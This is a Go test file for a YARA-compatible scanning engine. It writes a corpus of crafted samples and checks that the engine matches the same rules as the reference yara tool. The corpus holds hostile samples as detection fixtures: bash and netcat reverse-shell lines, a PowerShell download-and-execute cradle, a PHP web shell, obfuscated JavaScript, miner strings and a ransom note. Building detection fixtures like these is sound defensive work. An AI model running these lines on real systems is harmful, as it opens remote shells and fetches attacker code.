package yara

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"testing"
)

// writeCorpus writes crafted edge cases plus a few real executables from the Go toolchain and
// the machine into dir.
func writeCorpus(t testing.TB, dir string) {
	t.Helper()
	wide := func(s string) []byte {
		var b []byte
		for i := 0; i < len(s); i++ {
			b = append(b, s[i], 0)
		}
		return b
	}
	xor := func(s string, k byte) []byte {
		b := []byte(s)
		for i := range b {
			b[i] ^= k
		}
		return b
	}
	rnd := rand.New(rand.NewSource(42))
	random := make([]byte, 64<<10)
	rnd.Read(random)
	ints := make([]byte, 64)
	binary.LittleEndian.PutUint32(ints[0:], 0xdeadbeef)
	binary.BigEndian.PutUint32(ints[4:], 0xdeadbeef)
	binary.LittleEndian.PutUint16(ints[8:], 0xfffe)
	ints[10] = 0x80
	copy(ints[16:], "MZ")
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	files := map[string][]byte{
		"eicar.com":    []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
		"empty":        {},
		"one":          []byte("a"),
		"plain.txt":    []byte("hello world, the quick brown fox jumps over the lazy dog.\nHello World\nHELLO again\n"),
		"case.txt":     []byte("HeLLo WoRlD; eVaL(x); PowerShell -EnC AAAA\n"),
		"fullword.txt": []byte("xhellox hello_ hello. 1hello hello\nfoo-bar foobar bar_foo (bar)\n"),
		"wide.bin":     append(append(wide("hello world"), 0, 0, 'x', 0), wide("Kernel32.dll VirtualAlloc")...),
		"widefw.bin":   append(append(wide("ahello"), wide(" hello ")...), wide("hello1")...),
		"xor.bin":      append(append(append(xor("This program cannot be run", 0x20), 0, 0), xor("This program cannot be run", 0x5a)...), xor("hello world", 0x01)...),
		"xorwide.bin":  xor(string(wide("secret key")), 0x33),
		"b64.txt": []byte("a:" + b64("This program cannot be run in DOS mode") + "\nb:" + b64("xThis program cannot be run") +
			"\nc:" + b64("xyThis program cannot be run") + "\nd:" + b64("powershell -nop -w hidden") + "\n"),
		"b64wide.bin": wide(b64("This program cannot be run")),
		"overlap.txt": []byte("aaaaaaaaaa abababababab aXbXcX"),
		"ints.bin":    ints,
		"lines.txt":   []byte("first line\nsecond line\r\nthird\tline\nfoo123bar\nfoo bar\nfooXbar\nabc\n\nend"),
		"random.bin":  random,
		"js.html": []byte(`<html><script>eval(atob("ZG9jdW1lbnQud3JpdGUo")); document.write('<script src=x>');
var s = unescape("%u9090%u9090\x41\x42"); new ActiveXObject("WScript.Shell"); String.fromCharCode(72,101);</script></html>`),
		"shell.php":  []byte(`<?php @eval($_POST['cmd']); system($_GET["c"]); echo base64_decode("aGVsbG8="); ?>`),
		"rev.sh":     []byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nnc -e /bin/sh 10.0.0.1 4444\n"),
		"ps.ps1":     []byte("powershell.exe -NoP -w hidden -enc SQBFAFgA\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\n"),
		"hexes.bin":  []byte{0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xe8, 0x00, 0x00, 0x00, 0x00, 0x5d, 0xc3, 0xcc, 0xcc, 0x6a, 0x40, 0x68, 0x00, 0x30, 0x00, 0x00, 0xff, 0x15, 0xeb, 0xfe, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68},
		"bytes.bin":  allBytes(),
		"nested.txt": []byte("aaa bbb ccc aaa bbb aaa 123 456 789 abcabcabc xyz"),
		"ransom.txt": []byte("All your files have been encrypted! To decrypt them send bitcoin to our wallet. Contact us via Tor.\nYOUR_FILES_ARE_ENCRYPTED.txt"),
		"mixed.bin":  append(append([]byte("MZ"), make([]byte, 58)...), []byte("stratum+tcp://pool.minexmr.com:4444 xmrig VirtualAllocEx WriteProcessMemory CreateRemoteThread")...),
		"nul.bin":    make([]byte, 4096),
		"ff.bin":     bytes.Repeat([]byte{0xff}, 300),
	}
	for name, b := range files {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	goroot := runtime.GOROOT()
	real := []string{
		filepath.Join(goroot, "src/debug/pe/testdata/gcc-386-mingw-exec"),
		filepath.Join(goroot, "src/debug/pe/testdata/gcc-amd64-mingw-exec"),
		filepath.Join(goroot, "src/debug/pe/testdata/gcc-amd64-mingw-obj"),
		filepath.Join(goroot, "src/debug/elf/testdata/gcc-amd64-linux-exec"),
		filepath.Join(goroot, "src/debug/elf/testdata/gcc-386-freebsd-exec"),
		filepath.Join(goroot, "src/debug/elf/testdata/go-relocation-test-gcc441-x86-64.obj"),
		filepath.Join(goroot, "src/debug/elf/testdata/hello.c"),
		filepath.Join(goroot, "LICENSE"),
		"/bin/true",
		"/etc/passwd",
	}
	sub := filepath.Join(dir, "real")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, p := range real {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		if err := os.WriteFile(filepath.Join(sub, filepath.Base(p)), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func allBytes() []byte {
	b := make([]byte, 512)
	for i := range b {
		b[i] = byte(i)
	}
	return b
}

// scanDir prints what yara prints by default: "RULE PATH" for every matching rule.
func scanDir(t testing.TB, rs *Rules, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		for _, r := range rs.Scan(b, ScanOptions{}).Rules {
			out = append(out, r.Rule+" "+p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

func yaraDir(t testing.TB, rulesFile, dir string) []string {
	t.Helper()
	cmd := exec.Command("yara", "-w", "-r", "-p", "1", rulesFile, dir)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	b, err := cmd.Output()
	if err != nil {
		t.Fatalf("yara %s: %v: %s", rulesFile, err, stderr.String())
	}
	var out []string
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if l != "" {
			out = append(out, l)
		}
	}
	sort.Strings(out)
	return out
}

func diffLines(want, got []string) (missing, extra []string) {
	w := map[string]bool{}
	for _, l := range want {
		w[l] = true
	}
	g := map[string]bool{}
	for _, l := range got {
		g[l] = true
		if !w[l] {
			extra = append(extra, l)
		}
	}
	for _, l := range want {
		if !g[l] {
			missing = append(missing, l)
		}
	}
	return
}

// TestDifferential runs every rule file under testdata/diff through yara and through the
// engine over the same corpus; the "RULE PATH" sets must be identical.
func TestDifferential(t *testing.T) {
	if _, err := exec.LookPath("yara"); err != nil {
		t.Skip("yara not installed (make test-deps)")
	}
	dir := t.TempDir()
	writeCorpus(t, dir)
	files, err := filepath.Glob("testdata/diff/*.yar")
	if err != nil {
		t.Fatal(err)
	}
	gen := filepath.Join(t.TempDir(), "generated.yar")
	if err := os.WriteFile(gen, []byte(generatedRules()), 0o644); err != nil {
		t.Fatal(err)
	}
	files = append(files, gen)
	def, err := filepath.Glob("../rules/*.yar")
	if err != nil {
		t.Fatal(err)
	}
	files = append(files, def...)
	total := 0
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			src, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			rs, err := Compile([]Source{{Name: filepath.Base(f), Text: string(src)}})
			if err != nil {
				t.Fatalf("compile: %v", err)
			}
			total += rs.RuleCount()
			want := yaraDir(t, f, dir)
			got := scanDir(t, rs, dir)
			missing, extra := diffLines(want, got)
			for _, l := range missing {
				t.Errorf("yara matched, engine did not: %s", l)
			}
			for _, l := range extra {
				t.Errorf("engine matched, yara did not: %s", l)
			}
		})
	}
	t.Logf("%d rules compared", total)
}

// TestDifferentialWASM is the smaller run through the real module: `athena scan` (which runs
// bin/modules/patternmatcher.wasm in the host runtime) against yara. It needs `make build`;
// ATHENA_BIN overrides the binary.
func TestDifferentialWASM(t *testing.T) {
	if _, err := exec.LookPath("yara"); err != nil {
		t.Skip("yara not installed (make test-deps)")
	}
	root, err := filepath.Abs("../../..")
	if err != nil {
		t.Fatal(err)
	}
	bin := os.Getenv("ATHENA_BIN")
	if bin == "" {
		bin = filepath.Join(root, "bin", "athena")
	}
	modules := filepath.Join(root, "bin", "modules")
	if _, err := os.Stat(bin); err != nil {
		t.Skipf("%s not built (make build)", bin)
	}
	if _, err := os.Stat(filepath.Join(modules, "patternmatcher.wasm")); err != nil {
		t.Skip("patternmatcher.wasm not built (make wasm)")
	}
	dir := t.TempDir()
	writeCorpus(t, dir)
	// One invocation for all files keeps the test to a single runtime start.
	files := []string{"testdata/diff/text.yar", "testdata/diff/hex.yar", "testdata/diff/cond.yar", "testdata/diff/modules.yar"}
	args := []string{"scan", "--modules-dir", modules}
	for _, f := range files {
		args = append(args, "--rules", f)
	}
	cmd := exec.Command(bin, append(args, dir)...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("athena scan: %v: %s", err, stderr.String())
	}
	var got []string
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if l != "" {
			got = append(got, l)
		}
	}
	sort.Strings(got)
	// On a loaded machine a file can hit the guest's time budget; athena scan says so on
	// stderr and such partial results are left out of the comparison rather than flaking.
	partial := map[string]bool{}
	for _, l := range strings.Split(stderr.String(), "\n") {
		if p, ok := strings.CutSuffix(l, ": scan time limit reached, matches are partial"); ok {
			partial[strings.TrimPrefix(p, "warning: ")] = true
			t.Logf("partial result, not compared: %s", p)
		}
	}
	keep := func(lines []string) []string {
		var out []string
		for _, l := range lines {
			if _, path, ok := strings.Cut(l, " "); ok && !partial[path] {
				out = append(out, l)
			}
		}
		return out
	}
	var want []string
	for _, f := range files {
		want = append(want, yaraDir(t, f, dir)...)
	}
	sort.Strings(want)
	want, got = keep(want), keep(got)
	if len(partial) > 3 {
		t.Errorf("%d files hit the time limit", len(partial))
	}
	missing, extra := diffLines(want, got)
	for _, l := range missing {
		t.Errorf("yara matched, athena scan did not: %s", l)
	}
	for _, l := range extra {
		t.Errorf("athena scan matched, yara did not: %s", l)
	}
}
